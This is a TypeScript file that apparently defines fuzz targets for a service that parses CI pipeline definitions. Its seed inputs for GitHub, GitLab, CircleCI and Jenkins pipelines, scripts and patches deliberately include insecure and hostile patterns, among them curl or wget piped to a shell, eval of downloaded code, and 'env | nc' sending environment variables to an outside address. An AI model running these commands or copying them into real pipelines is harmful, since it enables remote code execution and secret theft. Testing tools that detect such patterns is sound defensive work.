// Fuzz targets of the readers of pipeline definitions: each takes any text, and must neither throw nor hang.
import { diffDefinitions } from '../../../services/collector/definitions/diff.ts';
import { readPatch } from '../../../services/collector/definitions/patch.ts';
import { readDefinition } from '../../../services/collector/definitions/read.ts';
import { readScript } from '../../../services/collector/definitions/script.ts';

export interface FuzzTarget {
  readonly name: string;
  /** Valid input to mutate. */
  readonly seeds: readonly string[];
  run(input: string): void;
}

const WORKFLOW = `name: CI
on:
  push: { branches: [main] }
  pull_request_target:
    types: [labeled]
permissions:
  contents: read
jobs:
  build:
    if: github.actor != 'bot'
    runs-on: \${{ matrix.os }}
    strategy: { matrix: { os: [ubuntu-latest, self-hosted] } }
    container: { image: "node:18", options: --privileged }
    environment: { name: production, url: "https://app.example.com" }
    env: &env
      KEY: \${{ secrets.KEY }}
    steps:
      - uses: actions/checkout@v4
        with: { ref: "\${{ github.event.pull_request.head.sha }}" }
      - name: Install
        env: *env
        run: |
          curl -fsSL https://get.example.com/i.sh | sudo bash -s -- "\${{ github.event.issue.title }}"
          cat <<EOF | sh
          echo "$(env)" >> $GITHUB_ENV
          EOF
  call:
    uses: acme/ci/.github/workflows/build.yml@main
    secrets: inherit
`;

const ACTION = `name: Own
inputs: { token: { default: "\${{ github.token }}" } }
runs:
  using: composite
  steps:
    - run: bash <(curl -s https://x.example.com)
      shell: bash
    - uses: ./.github/actions/other
`;

const GITLAB = `include:
  - { project: acme/ci, ref: v1, file: [/a.yml] }
  - remote: https://ci.example.com/x.yml
default: { image: "ruby:3.3", tags: [docker] }
.base: &base
  before_script: [echo base]
build:
  extends: .base
  <<: *base
  script:
    - !reference [.base, before_script]
    - wget -qO- https://x.example.com | sh
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
      when: manual
  id_tokens: { V: { aud: https://vault.example.com } }
`;

const CIRCLECI = `version: 2.1
orbs: { node: circleci/node@5.1.0 }
executors: { own: { machine: true, resource_class: acme/linux } }
jobs:
  build:
    executor: own
    steps:
      - checkout
      - run: { name: Test, command: "npm test << pipeline.git.branch >>" }
      - when: { condition: << parameters.x >>, steps: [{ run: env }] }
workflows:
  main:
    jobs:
      - build: { context: [prod] }
      - hold: { type: approval, requires: [build] }
`;

const JENKINSFILE = `@Library('shared@v1') _
pipeline {
  agent { docker { image 'maven:3.9' args '-v /:/host' } }
  triggers { cron('H * * * *') }
  environment { KEY = credentials('key') }
  stages {
    stage('Build') {
      when { branch 'main' }
      steps {
        withCredentials([string(credentialsId: 'x', variable: 'T')]) {
          sh """make \${env.CHANGE_TITLE} /* no */ // no
          curl -s https://x.example.com | sh"""
        }
        script { def a = ~/x'y/; "id".execute() }
      }
    }
  }
}
`;

const JOB = `<?xml version='1.1' encoding='UTF-8'?>
<project><!-- a --><permission>hudson.model.Item.Build:alice</permission>
<triggers><hudson.triggers.TimerTrigger><spec>H 2 * * *</spec></hudson.triggers.TimerTrigger></triggers>
<builders><hudson.tasks.Shell><command><![CDATA[curl -s https://x.example.com | sh]]> &amp;&amp; env</command></hudson.tasks.Shell></builders>
<definition class="org.x.CpsFlowDefinition"><script>node { sh &apos;make&apos; }</script></definition></project>
`;

const SCRIPT = `set -e
if command -v curl >/dev/null 2>&1; then
  curl -o i.sh "https://x.example.com/\${v:-1}" && bash i.sh
fi
eval "$(wget -qO- https://y.example.com)"; python3 -c 'exec(b64decode("x"))'
cat <<'EOF' >> $GITHUB_ENV
A=$(id)
EOF
docker run -v /var/run/docker.sock:/s alpine sh -c "env | nc 203.0.113.7 1"
`;

const PATCH = `diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
index 1..2 100644
--- a/.github/workflows/ci.yml
+++ b/.github/workflows/ci.yml
@@ -10,3 +10,4 @@ jobs:
     steps:
-      - uses: actions/checkout@v3
+      - uses: actions/checkout@v4
+      - run: |
+          curl -s https://x.example.com | sh
 # end
diff --git a/Jenkinsfile b/Jenkinsfile
new file mode 100644
--- /dev/null
+++ b/Jenkinsfile
@@ -0,0 +1 @@
+node { sh 'make' }
`;

function reading(name: string, path: string, seeds: readonly string[]): FuzzTarget {
  return {
    name,
    seeds,
    run(input) {
      const definition = readDefinition(path, input);
      diffDefinitions(definition, readDefinition(path, seeds[0] ?? ''));
      diffDefinitions(undefined, definition);
    },
  };
}

export const definitionTargets: readonly FuzzTarget[] = [
  reading('definition: GitHub workflow', '.github/workflows/ci.yml', [WORKFLOW]),
  reading('definition: GitHub action', 'action.yml', [ACTION]),
  reading('definition: GitLab', '.gitlab-ci.yml', [GITLAB]),
  reading('definition: CircleCI', '.circleci/config.yml', [CIRCLECI]),
  reading('definition: Jenkinsfile', 'Jenkinsfile', [JENKINSFILE]),
  reading('definition: Jenkins job', 'config.xml', [JOB]),
  {
    name: 'definition: script',
    seeds: [SCRIPT],
    run(input) {
      readScript(input);
      readScript(input, { shell: 'pwsh' });
      readScript(input, { shell: 'python' });
    },
  },
  { name: 'definition: patch', seeds: [PATCH], run: (input) => void readPatch(input) },
];
